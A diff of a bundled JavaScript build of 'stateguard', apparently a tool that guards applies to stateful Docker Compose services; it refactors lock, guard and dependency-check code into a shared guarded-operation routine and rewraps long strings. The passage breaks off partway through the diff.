@@ -6332,7 +6332,8 @@ function pickModule(set, name, input = 'module') {
     }
     const m = set.modules.find((x) => x.name === name);
     if (!m) {
-        throw new errors/* UserError */.yo(`--${input} ${JSON.stringify(name)} is not a module under ${set.root}; known modules: ${set.modules.map((x) => x.name).join(', ')}.`, 
+        throw new errors/* UserError */.yo(`--${input} ${JSON.stringify(name)} is not a module under ` +
+            `${set.root}; known modules: ${set.modules.map((x) => x.name).join(', ')}.`, 
         // A name that is not a module is a usage error (exit 3, 'could not run'), not a "no" about a module.
         { input, reason: 'module-not-found' });
     }
@@ -6359,7 +6360,7 @@ function code(text) {
 
 /***/ }),
 
-/***/ 4585:
+/***/ 2014:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -6373,6 +6374,47 @@ __nccwpck_require__.d(__webpack_exports__, {
 const external_node_os_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:os");
 // EXTERNAL MODULE: ./src/errors.ts
 var src_errors = __nccwpck_require__(3916);
+// EXTERNAL MODULE: ./src/model/validate.ts
+var validate = __nccwpck_require__(1071);
+;// CONCATENATED MODULE: ./src/drift/containers.ts
+function ofService(projectContainers, service) {
+    return projectContainers.filter((c) => c.service === service && !c.oneoff);
+}
+/** One listing of the project (ps + inspect), narrowed to the service. */
+async function listServiceContainers(runtime, compose) {
+    return ofService(await runtime.listProjectContainers(compose.project), compose.service);
+}
+/**
+ * Why a container is not "up": running, and healthy where it has a healthcheck (`starting` is not
+ * yet healthy). null when it is up. The one definition used wherever readiness is judged.
+ */
+function notReady(c) {
+    if (!c)
+        return 'is gone';
+    if (c.state !== 'running')
+        return `is ${c.state}`;
+    if (c.health !== null && c.health !== 'healthy')
+        return `is ${c.health}`;
+    return null;
+}
+/**
+ * Poll the engine (bounded) until every container is running and healthy where it has a
+ * healthcheck. Returns the containers still not ready at the deadline with why, or [] when all are.
+ */
+async function waitUntilReady(runtime, ids, timeoutMs, sleep = (ms) => new Promise((r) => setTimeout(r, ms)), intervalMs = 1000) {
+    const deadline = Date.now() + timeoutMs;
+    for (;;) {
+        const found = await runtime.inspectContainers(ids);
+        const pending = ids
+            .map((id) => ({ id, problem: notReady(found.find((c) => c.id === id)) }))
+            .filter((x) => x.problem !== null);
+        // An exited or dead container will not become ready by waiting.
+        if (pending.length === 0 || Date.now() >= deadline || pending.some((p) => /^is (exited|dead|gone)/.test(p.problem)))
+            return pending;
+        await sleep(intervalMs);
+    }
+}
+
 ;// CONCATENATED MODULE: ./src/drift/types.ts
 const DRIFT_KEYS = [
     'container.missing',
@@ -6395,13 +6437,16 @@ const DRIFT_KEYS = [
  * still listed in `reasons`, in this same order):
  *   1. could not evaluate the plan (docker-unavailable, compose-error, internal): nothing else
  *      about the module can be trusted, and whether any other condition even applies depends on it;
- *   2. invalid-input: the request itself is malformed (allow-stateful not exactly true/false);
- *   3. drift-not-allowed: not a one-shot, or drift this path never applies. No input can fix it,
+ *   2. drift-not-allowed: not a one-shot, or drift this path never applies. No input can fix it,
  *      so it comes before the conditions an operator could fix by re-dispatching, sparing them a
  *      backup and a confirmation that would be refused anyway;
- *   4. not-allowed: the explicit opt-in is missing;
- *   5. backup-rejected: the backup has to exist and verify before anyone can confirm it;
- *   6. confirm-mismatch: the confirmation asserts the backup is done, so it is checked last.
+ *   3. not-allowed: the explicit opt-in is missing;
+ *   4. backup-rejected: the backup has to exist and verify before anyone can confirm it;
+ *   5. confirm-mismatch: the confirmation asserts the backup is done, so it is checked last.
+ *
+ * A malformed request never reaches the rule: allow-stateful is typed `boolean` because the CLI and
+ * action layers refuse anything but exactly `true`/`false` before any command runs (exit 3,
+ * invalid-input; src/commands/inputs.ts, docs/architecture.md §10).
  *
  * The confirm value is never echoed: it is typed by a person into a free-text field, and a pasted
  * password would otherwise end up in the job log. The message says only how it differs (empty,
@@ -6416,7 +6461,6 @@ const EVALUATION_REASONS = ['docker-unavailable', 'compose-error', 'internal'];
 /** Order of failure reasons from most to least fundamental (see the file comment). */
 const FAILURE_PRECEDENCE = [
     ...EVALUATION_REASONS,
-    'invalid-input',
     'drift-not-allowed',
     'not-allowed',
     'backup-rejected',
@@ -6424,9 +6468,6 @@ const FAILURE_PRECEDENCE = [
 ];
 function isEvaluationError(x) {
     return typeof x === 'object' && x !== null && 'error' in x && 'reason' in x;
-}
-function isInvalidBoolean(x) {
-    return typeof x === 'object' && x !== null && 'invalid' in x;
 }
 /** How a given confirm differs from the token, without revealing what was typed. */
 function describeConfirmMismatch(confirm, token) {
@@ -6487,7 +6528,8 @@ function backupFix(module) {
     const sources = module.class === 'sidecar' && parents.length > 0 ? parents : [module.name];
     const first = sources[0];
     const which = sources.map((s) => `'${s}'`).join(' or ');
-    return (`Take a backup of ${which} with \`stateguard snapshot --module ${first} --out-dir DIR\` (DIR under a backup-root) ` +
+    return (`Take a backup of ` +
+        `${which} with \`stateguard snapshot --module ${first} --out-dir DIR\` (DIR under a backup-root) ` +
         `and pass the archive it writes as backup-ref.`);
 }
 function decide(input) {
@@ -6499,7 +6541,8 @@ function decide(input) {
         reasons.push({
             code: EVALUATION_REASONS.includes(input.plan.reason) ? input.plan.reason : 'internal',
             message: `could not plan module '${module.name}': ${input.plan.error}`,
-            fix: 'Fix the cause above (engine reachable, compose file renders) and run again; the guard never allows what it cannot plan.',
+            fix: 'Fix the cause above (engine reachable, compose file renders) and run again; the guard never allows what ' +
+                'it cannot plan.',
         });
     }
     else {
@@ -6516,20 +6559,18 @@ function decide(input) {
             driftKeys = [...new Set(input.plan.drift.map((d) => d.key))];
         }
     }
-    // A malformed boolean blocks whatever the class or drift (docs/architecture.md §4.4): the request is ambiguous.
-    if (isInvalidBoolean(input.allowStateful)) {
-        reasons.push({
-            code: 'invalid-input',
-            input: 'allow-stateful',
-            message: `allow-stateful must be exactly 'true' or 'false', got ${JSON.stringify(input.allowStateful.invalid)} (booleans are never coerced: yes/1/TRUE are refused)`,
-            fix: "Set allow-stateful to true or false (a workflow_dispatch boolean input passes exactly 'true' or 'false').",
-        });
-    }
     if (planKnown && reasons.length === 0 && driftKeys.length === 0) {
         return { module: module.name, decision: 'no-op', reasons: [], drift_keys: [], backup: null, failure_reason: '' };
     }
     if (planKnown && reasons.length === 0 && module.class === 'stateless') {
-        return { module: module.name, decision: 'allowed', reasons: [], drift_keys: driftKeys, backup: null, failure_reason: '' };
+        return {
+            module: module.name,
+            decision: 'allowed',
+            reasons: [],
+            drift_keys: driftKeys,
+            backup: null,
+            failure_reason: '',
+        };
     }
     // From here: something already failed, or a stateful/sidecar module has drift. The stateful
     // conditions are checked whenever there is (or, with an unknown plan, may be) something to
@@ -6539,8 +6580,10 @@ function decide(input) {
         if (module.expectedState !== 'exited-success') {
             reasons.push({
                 code: 'drift-not-allowed',
-                message: `module '${module.name}' is ${module.class} and long-running (expected_state: ${module.expectedState}); the stateful path only re-runs one-shots (expected_state: exited-success)`,
-                fix: 'Change a long-running stateful module through a reviewed maintenance procedure (snapshot, deploy, verify), not stateful-apply.',
+                message: `module '${module.name}' is ${module.class} and long-running (expected_state: ` +
+                    `${module.expectedState}); the stateful path only re-runs one-shots (expected_state: exited-success)`,
+                fix: 'Change a long-running stateful module through a reviewed maintenance procedure (snapshot, deploy, ' +
+                    'verify), not stateful-apply.',
             });
         }
         if (planKnown) {
@@ -6548,8 +6591,12 @@ function decide(input) {
             if (notApplicable.length > 0) {
                 reasons.push({
                     code: 'drift-not-allowed',
-                    message: `module '${module.name}' has drift this path never applies to a ${module.class} module: ${notApplicable.join(', ')} (only ${STATEFUL_APPLICABLE_DRIFT.join(', ')} is applied)`,
-                    fix: unverifiableFix(input.plan) ?? 'Resolve that drift by hand with a backup in place (e.g. an image bump is an upgrade, not a re-run), then re-plan.',
+                    message: `module '${module.name}' has drift this path never applies to a ` +
+                        `${module.class} module: ${notApplicable.join(', ')} (only ${STATEFUL_APPLICABLE_DRIFT.join(', ')} is ` +
+                        `applied)`,
+                    fix: unverifiableFix(input.plan) ??
+                        'Resolve that drift by hand with a backup in place (e.g. an image bump is an upgrade, not a re-run), ' +
+                            'then re-plan.',
                 });
             }
         }
@@ -6558,7 +6605,8 @@ function decide(input) {
                 code: 'not-allowed',
                 input: 'allow-stateful',
                 message: `allow-stateful is not true; module '${module.name}' is ${module.class}`,
-                fix: "Set allow-stateful to 'true' (the workflow's allow_stateful checkbox) to change a stateful or sidecar module.",
+                fix: "Set allow-stateful to 'true' (the workflow's allow_stateful checkbox) to change a stateful or sidecar " +
+                    'module.',
             });
         }
         const backup = input.backup;
@@ -6575,12 +6623,15 @@ function decide(input) {
                 code: 'backup-rejected',
                 input: 'backup-ref',
                 message: `the backup could not be verified: ${backup.error}`,
-                fix: 'Pass a backup-ref that is a readable .tar.gz under a backup-root; run stateguard verify-backup to see why.',
+                fix: 'Pass a backup-ref that is a readable .tar.gz under a backup-root; run stateguard verify-backup to see ' +
+                    'why.',
             });
         }
         else if (backup.verified !== true || (backup.problems ?? []).length > 0) {
             const problems = backup.problems ?? [];
-            const listed = problems.length ? problems.map((p) => `${p.code}: ${p.message}`).join('; ') : 'verify-backup did not confirm it';
+            const listed = problems.length
+                ? problems.map((p) => `${p.code}: ${p.message}`).join('; ')
+                : 'verify-backup did not confirm it';
             reasons.push({
                 code: 'backup-rejected',
                 input: 'backup-ref',
@@ -6596,17 +6647,24 @@ function decide(input) {
             reasons.push({
                 code: 'confirm-mismatch',
                 input: 'confirm',
-                message: blankToken ? 'the confirm token is empty or only whitespace, so no confirmation can match' : `${mismatch} (the value given is not shown)`,
+                message: blankToken
+                    ? 'the confirm token is empty or only whitespace, so no confirmation can match'
+                    : `${mismatch} (the value given is not shown)`,
                 fix: blankToken
                     ? 'Set confirm-token to a non-empty value (default BACKUP_DONE).'
-                    : `Set confirm to exactly ${JSON.stringify(input.confirmToken)} (case-sensitive, no spaces) once the backup is done.`,
+                    : `Set confirm to exactly ` +
+                        `${JSON.stringify(input.confirmToken)} (case-sensitive, no spaces) once the backup is done.`,
             });
         }
     }
     const ordered = orderReasons(reasons);
     // Defensive: an unknown plan or any reason is a block. No branch can reach 'allowed' otherwise.
     if (ordered.length === 0 && !planKnown) {
-        ordered.push({ code: 'internal', message: 'the plan could not be evaluated', fix: 'Re-run; stateguard failed closed.' });
+        ordered.push({
+            code: 'internal',
+            message: 'the plan could not be evaluated',
+            fix: 'Re-run; stateguard failed closed.',
+        });
     }
     if (ordered.length > 0) {
         return {
@@ -6618,7 +6676,14 @@ function decide(input) {
             failure_reason: ordered[0].code,
         };
     }
-    return { module: module.name, decision: 'allowed', reasons: [], drift_keys: driftKeys, backup: backupSummary(input.backup), failure_reason: '' };
+    return {
+        module: module.name,
+        decision: 'allowed',
+        reasons: [],
+        drift_keys: driftKeys,
+        backup: backupSummary(input.backup),
+        failure_reason: '',
+    };
 }
 /** Stable sort by FAILURE_PRECEDENCE; reasons outside it go last (still listed, still blocking). */
 function orderReasons(reasons) {
@@ -6626,7 +6691,10 @@ function orderReasons(reasons) {
         const i = FAILURE_PRECEDENCE.indexOf(r.code);
         return i === -1 ? FAILURE_PRECEDENCE.length : i;
     };
-    return reasons.map((r, i) => ({ r, i })).sort((a, b) => rank(a.r) - rank(b.r) || a.i - b.i).map((x) => x.r);
+    return reasons
+        .map((r, i) => ({ r, i }))
+        .sort((a, b) => rank(a.r) - rank(b.r) || a.i - b.i)
+        .map((x) => x.r);
 }
 /**
  * The way forward when a one-shot's container is gone and stateguard holds no record of its last
@@ -6640,8 +6708,10 @@ function unverifiableFix(plan) {
     if (!plan.drift.some((d) => d.key === 'container.image' && d.reason === 'unverifiable'))
         return null;
     const { project, service, file } = plan.compose;
-    return (`The one-shot's container was removed and stateguard has no record of its last successful run, so the image it would run now ` +
-        `cannot be compared with the one that ran against the data. Check the declared image, then create (not start) the container ` +
+    return (`The one-shot's container was removed and stateguard has no record of its last successful run, so the image it ` +
+        `would run now ` +
+        `cannot be compared with the one that ran against the data. Check the declared image, then create (not start) ` +
+        `the container ` +
         `so the plan can compare it: 'docker compose -p ${project} -f ${file} up --no-start --no-deps ${service}' ` +
         `(v1: 'docker-compose' with the same arguments); re-plan, review, and apply.`);
 }
@@ -6663,7 +6733,10 @@ async function planOne(modules, module, deps) {
         const plan = await deps.planModules(modules, deps.runtime, { only: [module.name] });
         const mine = plan.modules.filter((m) => m.name === module.name);
         if (mine.length !== 1) {
-            return { error: `the plan has ${mine.length} entries for module '${module.name}' (expected exactly 1)`, reason: 'internal' };
+            return {
+                error: `the plan has ${mine.length} entries for module '${module.name}' (expected exactly 1)`,
+                reason: 'internal',
+            };
         }
         const hash = mine[0].plan_hash;
         // Fail closed: a plan without a well-formed module hash binds nothing.
@@ -6713,50 +6786,9 @@ async function evaluateGuard(req, deps) {
 
 // EXTERNAL MODULE: ./src/report/scrub.ts
 var report_scrub = __nccwpck_require__(8289);
-// EXTERNAL MODULE: ./src/model/validate.ts
-var validate = __nccwpck_require__(1071);
-;// CONCATENATED MODULE: ./src/runtime/containers.ts
-function ofService(projectContainers, service) {
-    return projectContainers.filter((c) => c.service === service && !c.oneoff);
-}
-/** One listing of the project (ps + inspect), narrowed to the service. */
-async function listServiceContainers(runtime, compose) {
-    return ofService(await runtime.listProjectContainers(compose.project), compose.service);
-}
-/**
- * Why a container is not "up": running, and healthy where it has a healthcheck (`starting` is not
- * yet healthy). null when it is up. The one definition used wherever readiness is judged.
- */
-function notReady(c) {
-    if (!c)
-        return 'is gone';
-    if (c.state !== 'running')
-        return `is ${c.state}`;
-    if (c.health !== null && c.health !== 'healthy')
-        return `is ${c.health}`;
-    return null;
-}
-/**
- * Poll the engine (bounded) until every container is running and healthy where it has a
- * healthcheck. Returns the containers still not ready at the deadline with why, or [] when all are.
- */
-async function waitUntilReady(runtime, ids, timeoutMs, sleep = (ms) => new Promise((r) => setTimeout(r, ms)), intervalMs = 1000) {
-    const deadline = Date.now() + timeoutMs;
-    for (;;) {
-        const found = await runtime.inspectContainers(ids);
-        const pending = ids
-            .map((id) => ({ id, problem: notReady(found.find((c) => c.id === id)) }))
-            .filter((x) => x.problem !== null);
-        // An exited or dead container will not become ready by waiting.
-        if (pending.length === 0 || Date.now() >= deadline || pending.some((p) => /^is (exited|dead|gone)/.test(p.problem)))
-            return pending;
-        await sleep(intervalMs);
-    }
-}
-
 // EXTERNAL MODULE: external "node:crypto"
 var external_node_crypto_ = __nccwpck_require__(7598);
-;// CONCATENATED MODULE: ./src/apply/lock.ts
+;// CONCATENATED MODULE: ./src/ops/lock.ts
 /**
  * The per-module engine lock (docs/architecture.md §6.1).
  *
@@ -6793,14 +6825,21 @@ const LOCK_LABEL = {
 /** Extra time a holder may legitimately need beyond the one-shot's own timeout. */
 const STALE_MARGIN_MS = 10 * 60 * 1000;
 function sanitize(part) {
-    return part.toLowerCase().replace(/[^a-z0-9_.-]+/g, '_').replace(/^[^a-z0-9]+/, '').slice(0, 60);
+    return part
+        .toLowerCase()
+        .replace(/[^a-z0-9_.-]+/g, '_')
+        .replace(/^[^a-z0-9]+/, '')
+        .slice(0, 60);
 }
 /**
  * `stateguard-lock-<project>-<service>-<hash>`: readable, valid as a container name whatever the
  * inputs, and unique per (project, service) pair — the hash keeps `a-b`/`c` and `a`/`b-c` apart.
  */
 function lockName(project, service) {
-    const hash = (0,external_node_crypto_.createHash)('sha256').update(JSON.stringify([project, service])).digest('hex').slice(0, 10);
+    const hash = (0,external_node_crypto_.createHash)('sha256')
+        .update(JSON.stringify([project, service]))
+        .digest('hex')
+        .slice(0, 10);
     return `stateguard-lock-${sanitize(project) || 'x'}-${sanitize(service) || 'x'}-${hash}`;
 }
 /** Who is applying, from the runner's environment. Identifiers only: nothing here is secret. */
@@ -6817,7 +6856,10 @@ function describeHolder(env, host, pid) {
         parts.push(`actor ${env.GITHUB_ACTOR}`);
     parts.push(`host ${host}`, `pid ${pid}`);
     // Labels are single-line; keep it short and printable.
-    return parts.join(', ').replace(/[\r\n\t]+/g, ' ').slice(0, 400);
+    return parts
+        .join(', ')
+        .replace(/[\r\n\t]+/g, ' ')
+        .slice(0, 400);
 }
 async function imageCandidates(runtime, req) {
     const out = [];
@@ -6873,7 +6915,9 @@ function describeExisting(c, now) {
     const since = c.labels[LOCK_LABEL.since] || c.createdAt || 'unknown';
     const t = Date.parse(since);
     return {
-        holder: ours ? c.labels[LOCK_LABEL.holder] || 'unknown holder' : `a container that is not a stateguard lock (${c.name})`,
+        holder: ours
+            ? c.labels[LOCK_LABEL.holder] || 'unknown holder'
+            : `a container that is not a stateguard lock (${c.name})`,
         since,
         ageMs: Number.isNaN(t) ? null : Math.max(0, now.getTime() - t),
         ours,
@@ -6896,7 +6940,9 @@ async function acquireLock(runtime, req, timeoutSeconds) {
     for (let attempt = 0; attempt < 2; attempt++) {
         if (await tryCreate(runtime, name, images, labels)) {
             const [me] = await runtime.inspectContainers([name]);
-            if (!me || me.labels[LOCK_LABEL.since] !== labels[LOCK_LABEL.since] || me.labels[LOCK_LABEL.holder] !== req.holder) {
+            if (!me ||
+                me.labels[LOCK_LABEL.since] !== labels[LOCK_LABEL.since] ||
+                me.labels[LOCK_LABEL.holder] !== req.holder) {
                 throw new src_errors/* EnvironmentError */.eG(`took the apply lock ${name} but cannot read it back; refusing to continue`);
             }
             return { acquired: true, lock: { name, id: me.id, since: labels[LOCK_LABEL.since], holder: req.holder, broke } };
@@ -6908,14 +6954,17 @@ async function acquireLock(runtime, req, timeoutSeconds) {
         if (!existing)
             continue; // released between our create and inspect: try once more
         if (!info.ours) {
-            return refusal('That name is taken by a container stateguard did not create; it is never removed automatically. Inspect it and remove it by hand if it is a leftover.');
+            return refusal('That name is taken by a container stateguard did not create; it is never removed automatically. Inspect it ' +
+                'and remove it by hand if it is a leftover.');
         }
         if (!stale) {
-            return refusal(`Wait for it to finish. It counts as stale after ${minutes(staleBoundMs)} (max of lock-stale-after-minutes and timeout_seconds + 10 min); ` +
+            return refusal(`Wait for it to finish. It counts as stale after ` +
+                `${minutes(staleBoundMs)} (max of lock-stale-after-minutes and timeout_seconds + 10 min); ` +
                 `only then can it be broken with break-stale-lock: true.`);
         }
         if (!req.breakStale || attempt > 0) {
-            return refusal(`The lock is stale (older than ${minutes(staleBoundMs)}): its holder probably died. Make sure no apply of this module is running, ` +
+            return refusal(`The lock is stale (older than ` +
+                `${minutes(staleBoundMs)}): its holder probably died. Make sure no apply of this module is running, ` +
                 `then re-run with break-stale-lock: true (--break-stale-lock).`);
         }
         await runtime.removeContainer(existing.id);
@@ -6935,7 +6984,8 @@ function refuse(module, name, info, stale, extra) {
             since: info.since,
             ageMs: info.ageMs,
             stale,
-            message: `module '${module}' is locked by another apply: ${info.holder}, since ${info.since}${age}; lock ${name}. ${extra}`,
+            message: `module '${module}' is locked by another apply: ` +
+                `${info.holder}, since ${info.since}${age}; lock ${name}. ${extra}`,
         },
     };
 }
@@ -6946,7 +6996,233 @@ async function releaseLock(runtime, lock) {
         return null;
     }
     catch (err) {
-        return `could not release the apply lock ${lock.name}: ${(0,src_errors/* errorMessage */.gJ)(err)}. Remove it with 'docker rm ${lock.name}' once no apply is running.`;
+        return (`could not release the apply lock ` +
+            `${lock.name}: ${(0,src_errors/* errorMessage */.gJ)(err)}. Remove it with 'docker rm ${lock.name}' once no apply is running.`);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/ops/dependencies.ts
+/**
+ * depends_on_healthy: the modules that must stay running (and healthy where they have a
+ * healthcheck) in the same containers across a guarded operation (docs/architecture.md §6).
+ * Each compose project is listed once, however many dependencies live in it.
+ */
+
+
+function dependencyState(m, projectContainers) {
+    const cs = ofService(projectContainers, m.compose.service).sort((a, b) => (a.id < b.id ? -1 : 1));
+    return {
+        module: m.name,
+        container_ids: cs.map((c) => c.id),
+        states: cs.map((c) => c.state),
+        health: cs.map((c) => c.health),
+    };
+}
+/**
+ * Lists each compose project once, however many dependencies live in it (`listed` holds projects
+ * already listed at this moment). A project that cannot be listed maps to its error.
+ */
+async function listProjects(runtime, deps, listed = new Map()) {
+    const out = new Map(listed);
+    for (const d of deps) {
+        if (out.has(d.compose.project))
+            continue;
+        try {
+            out.set(d.compose.project, await runtime.listProjectContainers(d.compose.project));
+        }
+        catch (err) {
+            out.set(d.compose.project, err instanceof Error ? err : new Error(String(err)));
+        }
+    }
+    return out;
+}
+/** Why a dependency is not "running, healthy where it has a healthcheck", or null. */
+function dependencyProblem(s) {
+    if (s.container_ids.length === 0)
+        return `module '${s.module}' has no container`;
+    const bad = [];
+    s.container_ids.forEach((id, i) => {
+        const st = s.states[i];
+        const h = s.health[i];
+        if (st !== 'running')
+            bad.push(`${id.slice(0, 12)} is ${st}`);
+        else if (h !== null && h !== undefined && h !== 'healthy')
+            bad.push(`${id.slice(0, 12)} is ${h}`);
+    });
+    return bad.length ? `module '${s.module}': ${bad.join(', ')}` : null;
+}
+function compareDependency(before, after) {
+    const same = before.container_ids.length === after.container_ids.length &&
+        before.container_ids.every((id, i) => after.container_ids[i] === id);
+    if (!same) {
+        return (`module '${before.module}' was recreated or removed during the apply: container ` +
+            `${before.container_ids.map((i) => i.slice(0, 12)).join(',')} → ` +
+            `${after.container_ids.map((i) => i.slice(0, 12)).join(',') || 'none'}`);
+    }
+    return dependencyProblem(after);
+}
+async function checkDependencies(runtime, deps, before, out) {
+    let ok = true;
+    const listed = await listProjects(runtime, deps);
+    for (const [i, d] of deps.entries()) {
+        const b = before[i];
+        let after = null;
+        let problem;
+        const listing = listed.get(d.compose.project);
+        if (listing instanceof Error) {
+            problem = `module '${d.name}' could not be read after the apply: ${(0,src_errors/* errorMessage */.gJ)(listing)}`;
+        }
+        else {
+            after = dependencyState(d, listing);
+            problem = compareDependency(b, after);
+        }
+        if (problem)
+            ok = false;
+        out.dependencies.push({ module: d.name, before: b, after, ok: problem === null, problem });
+    }
+    return ok;
+}
+
+;// CONCATENATED MODULE: ./src/ops/guarded.ts
+/**
+ * The guarded-operation skeleton every mutating command runs through (docs/architecture.md §6;
+ * apply today, restore and upgrade next):
+ *
+ *   lock → interrupted-operation check → fresh plan + guard → plan-hash binding → preflight
+ *   refusals → dependencies healthy before → the step → (the step checks dependencies after) →
+ *   release the lock
+ *
+ * Every path ends in an outcome through `end()`; only the step can reach a success status, and
+ * only explicitly. Anything thrown under the lock is a failure (never a success), and once the step
+ * has started something on the engine no outcome is "could not run" (exit 3): something ran, so the
+ * answer is a "no" (exit 1) that says what happened.
+ */
+
+
+
+
+
+const guarded_EVALUATION_REASONS = ['docker-unavailable', 'compose-error', 'internal'];
+async function runGuarded(op) {
+    const { request: req, deps, out } = op;
+    const m = req.module;
+    const runtime = deps.runtime;
+    const scrub = new report_scrub/* Scrubber */.h6();
+    let started = false;
+    const say = (message) => {
+        const clean = scrub.scrub(message);
+        out.messages.push(clean);
+        deps.log.info(clean);
+    };
+    const end = (status, reason, message, couldNotRun = false) => {
+        out.status = status;
+        out.failure_reason = reason;
+        out.could_not_run = couldNotRun && !started;
+        say(message);
+        out.verdict = out.messages[out.messages.length - 1];
+        return out;
+    };
+    const dependencies = [];
+    for (const name of m.dependsOnHealthy) {
+        const d = req.modules.find((x) => x.name === name);
+        if (!d)
+            return end('refused', 'invalid-modules', `depends_on_healthy names '${name}', which is not a module; run stateguard validate.`);
+        dependencies.push(d);
+    }
+    const taken = await acquireLock(runtime, {
+        module: m.name,
+        project: m.compose.project,
+        service: m.compose.service,
+        moduleImages: op.lockImages,
+        holder: req.holder,
+        now: deps.now(),
+        staleAfterMs: req.staleAfterMs,
+        breakStale: req.breakStaleLock,
+    }, op.lockTimeoutSeconds);
+    if (!taken.acquired) {
+        out.lock_refusal = taken.refusal;
+        return end('refused', 'locked', taken.refusal.message);
+    }
+    const lock = taken.lock;
+    out.lock = { name: lock.name, holder: lock.holder, since: lock.since, ...(lock.broke ? { broke: lock.broke } : {}) };
+    if (lock.broke) {
+        const w = `broke a stale ` +
+            `${op.verb} lock held by ${lock.broke.holder} since ${lock.broke.since} (break-stale-lock: true)`;
+        out.warnings.push(w);
+        deps.log.warn(w);
+    }
+    say(`took the ${op.verb} lock ${lock.name}`);
+    try {
+        const interrupted = op.interrupted ? await op.interrupted() : null;
+        if (interrupted)
+            return end('refused', interrupted.reason, interrupted.message);
+        // A reviewed plan may be stale by now: plan and guard again with the same inputs.
+        const ev = await evaluateGuard(req, deps);
+        out.guard = ev.result;
+        out.plan_hash = ev.planHash;
+        if (req.expectedPlanHash !== undefined && ev.planHash !== null && ev.planHash !== req.expectedPlanHash) {
+            return end('refused', 'plan-changed', `the fresh plan of ` +
+                `'${m.name}' (plan_hash ` +
+                `${ev.planHash}) differs from the reviewed one (expected-plan-hash ${req.expectedPlanHash}). ` +
+                `The module's compose definition or its drift changed since that plan. Re-run stateguard plan --module ` +
+                `${m.name}, ` +
+                `review it, and pass that module's plan_hash (shown per module in the plan, its summary and the PR comment).`);
+        }
+        if (ev.result.decision === 'blocked') {
+            const first = ev.result.reasons[0];
+            return end('blocked', ev.result.failure_reason || 'internal', `the guard blocked the ${op.verb} of '${m.name}': ` +
+                ev.result.reasons.map((r) => `${r.message} — fix: ${r.fix}`).join(' | '), first !== undefined && guarded_EVALUATION_REASONS.includes(first.code));
+        }
+        if (ev.result.decision === 'no-op')
+            return end('no-op', '', `module '${m.name}' is in sync: nothing to ${op.verb}`);
+        if (ev.result.decision !== 'allowed') {
+            return end('blocked', 'internal', `unexpected guard decision ${JSON.stringify(ev.result.decision)}; stateguard failed closed`, true);
+        }
+        say(`guard: allowed (${ev.result.drift_keys.join(', ')})`);
+        const dependenciesBefore = [];
+        const ctx = {
+            out,
+            scrub,
+            say,
+            end,
+            started: () => void (started = true),
+            dependenciesBefore,
+            checkDependencies: () => checkDependencies(runtime, dependencies, dependenciesBefore, out),
+        };
+        const pre = op.preflight ? await op.preflight(ev, ctx) : {};
+        if ('refused' in pre)
+            return pre.refused;
+        // Dependencies must be running (and healthy) before; the step compares them after.
+        const listed = await listProjects(runtime, dependencies, pre.listed);
+        for (const d of dependencies) {
+            const listing = listed.get(d.compose.project);
+            if (listing instanceof Error)
+                throw listing;
+            const s = dependencyState(d, listing);
+            const problem = dependencyProblem(s);
+            if (problem) {
+                out.dependencies.push({ module: d.name, before: s, after: null, ok: false, problem });
+                return end('refused', 'dependency-disturbed', `depends_on_healthy is not healthy before the ` +
+                    `${op.verb} (${problem}); nothing was run. Bring it back to running and healthy first.`);
+            }
+            dependenciesBefore.push(s);
+        }
+        return await op.step(ev, ctx);
+    }
+    catch (err) {
+        // Fail closed: whatever broke, this is not a success.
+        const reason = err instanceof src_errors/* EnvironmentError */.eG ? err.reason : 'internal';
+        return end('failed', reason, `${op.verb} stopped: ${(0,src_errors/* errorMessage */.gJ)(err)}`, true);
+    }
+    finally {
+        const problem = await releaseLock(runtime, lock);
+        if (problem) {
+            out.warnings.push(problem);
+            deps.log.warn(problem);
+        }
+        else {
+            out.messages.push(`released the ${op.verb} lock ${lock.name}`);
+        }
     }
 }
 
@@ -7048,71 +7324,25 @@ class LineScrubber {
 
 ;// CONCATENATED MODULE: ./src/apply/apply.ts
 /**
- * apply of a one-shot module (docs/architecture.md §6), against the Runtime interface only.
+ * apply of a one-shot module (docs/architecture.md §6): the one-shot's step inside the guarded
+ * operation skeleton (src/ops/guarded.ts: lock → fresh plan + guard → plan-hash binding →
+ * dependencies before → step → release).
  *
- * Order: refuse non-one-shots → lock → fresh plan + guard (same inputs) → plan-hash binding →
- * no-op ends → refuse a run still in progress → dependencies healthy before → recreate only this
- * service → register the new container's secrets → stream scrubbed logs while `docker wait` runs
- * (bounded by timeout_seconds; stop on timeout) → dependencies unchanged after → release the lock.
+ * The step: refuse a run still in progress → (dependencies healthy before) → refuse a replica count
+ * other than 1 → refuse an image that is not on the engine → recreate only this service → register
+ * the new container's secrets → stream scrubbed logs while `docker wait` runs (bounded by
+ * timeout_seconds; stop on timeout) → record a success on the engine → dependencies unchanged after.
  *
  * Every path returns an ApplyOutcome; `applied` and `no-op` are the only successes, and each is
- * reached only through explicit checks. Anything thrown is caught by the command layer and
- * reported as "could not run" — never as success.
+ * reached only through explicit checks.
  */
 
 
 
 
 
-
-
-const apply_EVALUATION_REASONS = ['docker-unavailable', 'compose-error', 'internal'];
 function target(m) {
     return { project: m.compose.project, files: [m.compose.path] };
-}
-function dependencyState(m, projectContainers) {
-    const cs = ofService(projectContainers, m.compose.service).sort((a, b) => (a.id < b.id ? -1 : 1));
-    return { module: m.name, container_ids: cs.map((c) => c.id), states: cs.map((c) => c.state), health: cs.map((c) => c.health) };
-}
-/**
- * Lists each compose project once, however many dependencies live in it (`listed` holds projects
- * already listed at this moment). A project that cannot be listed maps to its error.
- */
-async function listProjects(runtime, deps, listed = new Map()) {
-    const out = new Map(listed);
-    for (const d of deps) {
-        if (out.has(d.compose.project))
-            continue;
-        try {
-            out.set(d.compose.project, await runtime.listProjectContainers(d.compose.project));
-        }
-        catch (err) {
-            out.set(d.compose.project, err instanceof Error ? err : new Error(String(err)));
-        }
-    }
-    return out;
-}
-/** Why a dependency is not "running, healthy where it has a healthcheck", or null. */
-function dependencyProblem(s) {
-    if (s.container_ids.length === 0)
-        return `module '${s.module}' has no container`;
-    const bad = [];
-    s.container_ids.forEach((id, i) => {
-        const st = s.states[i];
-        const h = s.health[i];
-        if (st !== 'running')
-            bad.push(`${id.slice(0, 12)} is ${st}`);
-        else if (h !== null && h !== undefined && h !== 'healthy')
-            bad.push(`${id.slice(0, 12)} is ${h}`);
-    });
-    return bad.length ? `module '${s.module}': ${bad.join(', ')}` : null;
-}
-function compareDependency(before, after) {
